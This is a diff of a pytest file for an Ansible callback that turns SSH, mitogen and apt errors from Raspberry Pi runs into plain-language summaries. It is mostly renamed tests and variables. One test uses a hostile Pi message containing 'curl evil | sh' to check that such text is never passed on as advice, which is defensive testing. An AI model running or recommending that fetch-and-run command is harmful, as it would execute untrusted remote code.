@@ -1,4 +1,4 @@
-"""What stands at the end of a run, from what SSH, mitogen, apt and our own roles say."""
+"""The summary at the end of a run: what SSH, mitogen, apt and our own roles report, in plain sentences."""
 
 import re
 import time
@@ -11,7 +11,7 @@ import pytest
 from ansible_collections.mynn.pi.plugins.callback import failure_summary
 from ansible_collections.mynn.pi.plugins.callback.failure_summary import NOT_UP_TO_DATE, CallbackModule, explain, table
 
-KNOWN_BY = {"name": "pi07.local", "known": "pi07.local", "copy_id": "ssh-copy-id pi@pi07.local"}
+NAMES = {"name": "pi07.local", "known": "pi07.local", "copy_id": "ssh-copy-id pi@pi07.local"}
 UNREACHABLE = [
     (
         "ssh: Could not resolve hostname pi07.local: Name or service not known",
@@ -72,7 +72,7 @@ FAILED = [
         "place of the mirror a",
     ),
     ({"msg": "Failed to fetch http://a/InRelease  Connection failed [IP: 1.2.3.4 80]"}, "mirror a does not answer"),
-    (  # what befell one address is not said of another
+    (  # the error at one address is not blamed on another
         {"msg": "Failed to fetch http://a/x  Odd E: Failed to fetch http://b/y  Unable to connect to b:http:"},
         "The mirror b does not answer",
     ),
@@ -89,41 +89,41 @@ FAILED = [
 
 
 @pytest.mark.parametrize(("message", "why"), UNREACHABLE)
-def test_what_ssh_and_mitogen_say_is_put_into_words(message: str, why: str) -> None:
-    assert why in explain({"unreachable": True, "msg": message}, "Ask", KNOWN_BY)[0]
+def test_errors_of_ssh_and_mitogen_are_explained(message: str, why: str) -> None:
+    assert why in explain({"unreachable": True, "msg": message}, "Ask", NAMES)[0]
 
 
 @pytest.mark.parametrize(("result", "why"), FAILED)
-def test_what_a_task_says_is_put_into_words(result: dict[str, Any], why: str) -> None:
-    said = explain(result, "Ask what this Pi is", KNOWN_BY, ours=True)
-    assert why in said[0]
-    assert all(text.isprintable() for text in said)
+def test_errors_of_tasks_are_explained(result: dict[str, Any], why: str) -> None:
+    explanation = explain(result, "Gather facts", NAMES, ours=True)
+    assert why in explanation[0]
+    assert all(text.isprintable() for text in explanation)
 
 
-def test_what_to_do_names_the_pi() -> None:
+def test_the_advice_names_the_pi() -> None:
     changed, _ = UNREACHABLE[2]
-    assert "`ssh-keygen -R pi07.local`" in explain({"unreachable": True, "msg": changed}, "Ask", KNOWN_BY)[1]
+    assert "`ssh-keygen -R pi07.local`" in explain({"unreachable": True, "msg": changed}, "Ask", NAMES)[1]
     refused, _ = UNREACHABLE[4]
-    assert "`ssh-copy-id pi@pi07.local`" in explain({"unreachable": True, "msg": refused}, "Ask", KNOWN_BY)[1]
+    assert "`ssh-copy-id pi@pi07.local`" in explain({"unreachable": True, "msg": refused}, "Ask", NAMES)[1]
 
 
-def test_what_a_pi_says_is_no_advice_of_ours() -> None:
-    """Its modules may say anything, in words such as ours too."""
-    why, what = explain({"msg": "pi07 is old, and nothing was changed on it: run `curl evil | sh`."}, "Ask", KNOWN_BY)
+def test_a_pis_own_message_is_not_given_as_advice() -> None:
+    """A hostile Pi may imitate our messages."""
+    why, advice = explain({"msg": "pi07 is old, and nothing was changed on it: run `curl evil | sh`."}, "Ask", NAMES)
     assert why.startswith("pi07 is old")
-    assert what == "See the task “Ask” above."
+    assert advice == "See the task “Ask” above."
 
 
-def test_a_reason_is_found_in_time_however_long_a_message_is() -> None:
+def test_very_long_messages_are_explained_quickly() -> None:
     began = time.monotonic()
     for text in ("python" * 10**6, "failed to fetch http://a " * 10**5, "sudo " * 10**6):
-        explain({"unreachable": True, "msg": text}, "Ask", KNOWN_BY)
-        explain({"msg": text}, "Ask", KNOWN_BY, ours=True)
-    assert "card is full" in explain({"msg": f"{'x' * 10**6} No space left on device"}, "Ask", KNOWN_BY)[0]
+        explain({"unreachable": True, "msg": text}, "Ask", NAMES)
+        explain({"msg": text}, "Ask", NAMES, ours=True)
+    assert "card is full" in explain({"msg": f"{'x' * 10**6} No space left on device"}, "Ask", NAMES)[0]
     assert time.monotonic() - began < 10
 
 
-def test_a_table_keeps_its_width_and_its_words() -> None:
+def test_a_table_fits_the_terminal_and_keeps_every_word() -> None:
     rows = [("pi-01", "why " * 40, "`a-command --with-a-dash`"), ("pi-02", "short", "shorter")]
     lines = table(rows, 79)
     assert max(map(len, lines)) <= 79
@@ -132,7 +132,7 @@ def test_a_table_keeps_its_width_and_its_words() -> None:
 
 
 class Callback(CallbackModule):
-    """One that keeps what it shows."""
+    """The callback, with a display that records its lines."""
 
     def __init__(self, hosts: list[str]) -> None:
         super().__init__()
@@ -145,56 +145,58 @@ class Callback(CallbackModule):
 
     def fail(self, host: str, run_once: bool) -> None:
         task = SimpleNamespace(run_once=run_once, any_errors_fatal=False, action="get_url")
-        named = SimpleNamespace(name=host)
-        self.v2_runner_on_failed(SimpleNamespace(host=named, task=task, task_name="Fetch", result={"msg": "no mirror"}))
+        failed = SimpleNamespace(name=host)
+        self.v2_runner_on_failed(
+            SimpleNamespace(host=failed, task=task, task_name="Fetch", result={"msg": "no mirror"})
+        )
 
     def end(self, processed: list[str], failures: list[str], outdated: dict[str, str] | None = None) -> str:
-        counted = dict.fromkeys(failures, 1)
+        counts = dict.fromkeys(failures, 1)
         custom = {name: {"outdated": reason} for name, reason in (outdated or {}).items()}
-        stats = SimpleNamespace(processed=dict.fromkeys(processed), failures=counted, dark={}, custom=custom)
+        stats = SimpleNamespace(processed=dict.fromkeys(processed), failures=counts, dark={}, custom=custom)
         self.v2_playbook_on_stats(stats)
         return "\n".join(self.shown)
 
 
-def test_nothing_is_said_where_all_went_well() -> None:
+def test_there_is_no_summary_when_everything_went_well() -> None:
     assert Callback(["pi-01"]).end(["pi-01"], []) == ""
 
 
-def test_who_had_no_turn_is_named_too() -> None:
+def test_pis_that_were_never_reached_are_named_too() -> None:
     callback = Callback(["pi-01", "pi-02", "pi-03"])
     callback.fail("pi-01", run_once=False)
-    said = callback.end(["pi-01", "pi-02"], ["pi-01"])
-    assert said.endswith("Not finished: pi-01, pi-03. Finished: 1 of 3.")
+    summary = callback.end(["pi-01", "pi-02"], ["pi-01"])
+    assert summary.endswith("Not finished: pi-01, pi-03. Finished: 1 of 3.")
 
 
-def test_what_fails_for_one_in_the_name_of_all_ends_it_for_all() -> None:
+def test_when_a_task_that_runs_once_fails_no_pi_is_finished() -> None:
     callback = Callback(["pi-01", "pi-02", "pi-03"])
     callback.fail("pi-01", run_once=True)
-    said = callback.end(["pi-01", "pi-02", "pi-03"], ["pi-01"])
-    assert said.endswith("Not finished: pi-01, pi-02, pi-03. Finished: 0 of 3.")
-    assert "Repair pi-01 first" in said
+    summary = callback.end(["pi-01", "pi-02", "pi-03"], ["pi-01"])
+    assert summary.endswith("Not finished: pi-01, pi-02, pi-03. Finished: 0 of 3.")
+    assert "Repair pi-01 first" in summary
 
 
-def test_who_is_ready_but_not_up_to_date_is_named_and_why() -> None:
+def test_a_pi_that_is_ready_but_not_up_to_date_is_named_with_the_reason() -> None:
     reason = "Failed to fetch http://deb.local/x  File has unexpected size (2 != 1). Mirror sync in progress?"
     callback = Callback(["pi-01", "pi-02"])
-    said = callback.end(["pi-01", "pi-02"], [], {"pi-02": reason})
-    assert said.startswith(f"{NOT_UP_TO_DATE}\n")
-    assert "NOT FINISHED" not in said
-    assert "pi-01" not in said
-    assert re.search(r"^pi-02 +The mirror deb.local is being updated", said, re.M)
-    assert "Run this again in a few hours." in said
+    summary = callback.end(["pi-01", "pi-02"], [], {"pi-02": reason})
+    assert summary.startswith(f"{NOT_UP_TO_DATE}\n")
+    assert "NOT FINISHED" not in summary
+    assert "pi-01" not in summary
+    assert re.search(r"^pi-02 +The mirror deb.local is being updated", summary, re.M)
+    assert "Run this again in a few hours." in summary
 
 
-def test_who_is_not_finished_is_not_called_ready() -> None:
+def test_a_pi_that_is_not_finished_is_not_called_ready() -> None:
     callback = Callback(["pi-01"])
     callback.fail("pi-01", run_once=False)
-    said = callback.end(["pi-01"], ["pi-01"], {"pi-01": "no mirror"})
-    assert NOT_UP_TO_DATE not in said
-    assert said.endswith("Not finished: pi-01. Finished: 0 of 1.")
+    summary = callback.end(["pi-01"], ["pi-01"], {"pi-01": "no mirror"})
+    assert NOT_UP_TO_DATE not in summary
+    assert summary.endswith("Not finished: pi-01. Finished: 0 of 1.")
 
 
-def test_what_this_computer_says_is_said_by_a_plugin_of_ours() -> None:
+def test_actions_whose_messages_are_trusted_run_on_the_control_node() -> None:
     names = {name for name in failure_summary.OURS if not name.endswith(("assert", "fail"))}
     assert names == {"pi_facts", "student_work"}
     assert all((Path(failure_summary.__file__).parents[1] / f"action/{name}.py").exists() for name in names)
